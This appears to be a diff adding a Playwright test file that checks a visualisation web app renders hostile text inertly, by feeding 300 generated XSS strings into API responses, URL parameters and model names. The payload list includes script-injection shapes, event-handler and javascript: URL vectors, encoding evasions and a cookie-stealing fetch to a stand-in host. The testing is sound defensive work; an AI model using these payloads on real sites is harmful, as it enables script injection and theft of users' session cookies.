@@ -1,0 +1,187 @@
+"""Tokens, labels and names are text: 300 hostile ones execute nothing and build nothing."""
+
+import json
+from collections import Counter
+from collections.abc import Callable, Sequence
+from itertools import product
+
+import pytest
+from playwright.sync_api import Page, Route, expect
+from screens import Server, drawn
+
+PAYLOADS = (
+    "alert(1)", "confirm`1`", "document.title='x'", "import('data:text/javascript,alert(1)')",
+    "fetch('https://example.org/'+document.cookie)", "window.name='x'",
+)  # fmt: skip
+SHAPES = (
+    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script>",
+    "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>", "javascript:{}",
+    "\"><script>{}</script>", "' onmouseover='{}' x='", "\" autofocus onfocus=\"{}\" x=\"",
+    "</textarea><script>{}</script>", "</title><script>{}</script>", "<!--><script>{}</script>-->",
+    "<math><mtext><img src=x onerror={}></mtext></math>", "<style>@import'http://x/';{}</style>",
+    "<style>*{{background:url(http://x/{})}}</style>", "<link rel=stylesheet href=http://x/{}>",
+    "<base href=http://x/><script>{}</script>", "<meta http-equiv=refresh content='0;url={}'>",
+    "<object data='data:text/html,<script>{}</script>'>", "<embed src='javascript:{}'>",
+    "<form action='javascript:{}'><input type=submit autofocus></form>", "${{{}}}", "{{{{{}}}}}",
+    "`-{}-`", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
+    "%3Cscript%3E{}%3C/script%3E", "<template><script>{}</script></template>",
+    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<body onload={}>",
+    "<marquee onstart={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
+    "<keygen autofocus onfocus={}>", "<x onclick={} tabindex=1>", "<noscript><p title='</noscript>{}'>",
+    "\u202e<script>{}</script>", "\u2028<script>{}</script>", "\x00<script>{}</script>",
+    "<scr\x00ipt>{}</scr\x00ipt>", "\ud83d\ude00<img/src/onerror={}>", "<a\u00a0onclick={}>",
+    "'-{}-'", "\"-{}-\"", "*/{}/*", "//\n{}\n//", "]]><script>{}</script>",
+    "<?xml version='1.0'?><script>{}</script>",
+)  # fmt: skip
+HOSTILE = [shape.format(payload) for shape, payload in product(SHAPES, PAYLOADS)]
+BENIGN = [f"word {i} of a text" for i in range(len(HOSTILE))]
+TAGS = "[...document.querySelectorAll('*')].map((each) => each.tagName)"
+READY = {
+    "map": ".one-head .measures", "head": ".page-head .row table", "numbers": ".step .shown",
+    "translate": ".minis canvas",
+}  # fmt: skip
+
+
+def test_there_are_three_hundred() -> None:
+    assert len(set(HOSTILE)) == 300
+
+
+class Mouth:
+    """Stands between server and page, and puts its own words in place of the server's."""
+
+    def __init__(self, server: Server, words: Sequence[str]) -> None:
+        self.server, self.words = server, list(words)
+
+    def __call__(self, route: Route) -> None:
+        path = route.request.url.removeprefix(f"{self.server.url}api/")
+        answer = self.server.json(path, json.loads(route.request.post_data or "null"))
+        kind = path.split("?")[0].split("/")
+        change = {"models": self.models, "runs": self.run}.get(
+            kind[-1], getattr(self, kind[-1], None)
+        )
+        if "numbers" in kind:
+            change = self.numbers
+        if change is not None:
+            change(answer)
+        route.fulfill(body=json.dumps(answer), content_type="application/json")
+
+    def models(self, answer: dict) -> None:
+        kept = answer["models"]
+        some = [{**each, "id": f"{each['id']}-{n}"} for n in range(99) for each in kept]
+        answer["models"] = (kept + some)[: len(self.words)]
+        for each, word in zip(answer["models"], self.words, strict=True):
+            samples = [{"text": text, "second": text} for text in self.words[:40]]
+            each.update(name=word, family=each["family"], mask=word, note=word)
+            each["samples"] = each["samples"][:1] + samples
+
+    def run(self, answer: dict) -> None:
+        for tokens in answer["tokens"]["queries"].values():
+            for token, word in zip(tokens, self.words[::7], strict=False):
+                token["text"] = word
+        answer["says"]["text"] = answer["says"]["text"] and self.words[5]
+        for place in answer["says"]["at"]:
+            place["top"] = [{"text": word, "p": 1 / 300} for word in self.words]
+
+    def measures(self, answer: dict) -> None:
+        for each, word in zip(answer["names"], self.words[::11], strict=False):
+            each["title"], each["paper"] = word, word
+        for kinds in answer["types"].values():
+            kinds[:] = [[self.words[n + 3] for n, _ in enumerate(row)] for row in kinds]
+
+    def alignment(self, answer: dict) -> None:
+        for side in ("source", "target"):
+            answer[side] = self.words[20 : 20 + len(answer[side])]
+
+    def numbers(self, answer: dict) -> None:
+        answer["token"] = self.words[9]
+        answer["formulas"] = dict(zip(answer["formulas"], self.words[30:], strict=False))
+
+
+def seen(page: Page, server: Server, words: Sequence[str], model: str) -> list[Counter[str]]:
+    """The elements of each page when the server speaks these words."""
+    page.unroute_all()
+    page.route(lambda url: "/api/" in url and "/map/" not in url and "/head/" not in url,
+               Mouth(server, words))  # fmt: skip
+    found = []
+    for name, ready in READY.items():
+        if name == "translate" and model != "2":
+            continue
+        page.goto(server.url + "icon.svg")
+        page.goto(server.address(name, m=model))
+        page.locator(ready).first.wait_for()
+        page.wait_for_function("document.querySelector('#live').textContent")
+        found.append(Counter(page.evaluate(TAGS)))
+    return found
+
+
+@pytest.mark.parametrize("name", ["toy encoder", "toy translator"])
+def test_words_of_the_server(toys: Server, open_page: Callable[..., Page], name: str) -> None:
+    """The same elements as with harmless words; what is not allowed fails in `open_page`."""
+    page = open_page(toys.url)
+    model = toys.model(name)
+    hostile = seen(page, toys, HOSTILE, model)
+    if name == "toy translator":
+        names = page.get_by_label("Model", exact=True).locator("option").all_text_contents()
+        assert names == HOSTILE
+    assert hostile == seen(page, toys, BENIGN, model)
+
+
+def test_words_of_the_user(strangers: Server, open_page: Callable[..., Page]) -> None:
+    """As a text, and in the address: what comes back is shown as it was written."""
+    page = open_page(strangers.address(m=strangers.model("gpt2")))
+    drawn(page, ".board canvas")
+    for text in HOSTILE[::25]:
+        page.goto(strangers.address(m=strangers.model("gpt2"), x=text[:40]))
+        expect(page.locator("#text")).to_have_value(text[:40].replace("\n", "").replace("\r", ""))
+    assert set(page.evaluate(TAGS)) <= set(
+        [
+            "HTML",
+            "HEAD",
+            "META",
+            "TITLE",
+            "LINK",
+            "SCRIPT",
+            "BODY",
+            "A",
+            "HEADER",
+            "IMG",
+            "NAV",
+            "DIV",
+            "SELECT",
+            "OPTION",
+            "SPAN",
+            "BUTTON",
+            "FORM",
+            "INPUT",
+            "P",
+            "MAIN",
+            "H1",
+            "H2",
+            "H3",
+            "ASIDE",
+            "SECTION",
+            "CANVAS",
+            "TABLE",
+            "CAPTION",
+            "THEAD",
+            "TBODY",
+            "TR",
+            "TH",
+            "TD",
+            "DIALOG",
+            "KBD",
+            "LABEL",
+            "NOSCRIPT",
+        ]
+    )
+    assert page.locator("img").count() == 1 and page.locator("script").count() == 1
+
+
+def test_words_of_a_folder(strangers: Server, open_page: Callable[..., Page]) -> None:
+    """A folder whose name and labels are markup."""
+    evil = "<img src=x onerror=alert(1)>"
+    page = open_page(strangers.address(m=strangers.model(evil), x="the cat sat"))
+    drawn(page, ".board canvas")
+    expect(page.get_by_label("Model", exact=True)).to_contain_text(evil)
+    labels = page.locator("table.says tbody th").all_text_contents()
+    assert evil in labels and "<script>alert(2)</script>" in labels
